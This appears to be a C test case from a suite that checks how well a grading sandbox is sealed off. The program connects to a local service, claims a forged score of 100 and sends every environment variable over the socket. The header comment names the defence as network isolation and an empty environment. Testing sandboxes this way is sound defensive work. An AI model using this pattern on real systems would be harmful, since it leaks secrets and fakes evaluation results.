/*
 * attack: sends its score to a service of the machine, with what the
 *   environment holds
 * row: A11
 * would show: the service heard of it
 * unconfined: works
 * defence: a network of its own, an empty environment; the instructor hands
 *   results on
 */
#include "attack.h"
#include <arpa/inet.h>

extern char **environ;

int main(void) {
    struct sockaddr_in to = {.sin_family = AF_INET,
                             .sin_port = htons((unsigned short)atoi("@PORT@"))};
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0) {
        dprintf(fd, "score 100 from @MARK@\n");
        for (char **e = environ; *e; e++)
            dprintf(fd, "%s\n", *e);
        worked("the service was told");
    }
    return 1;
}
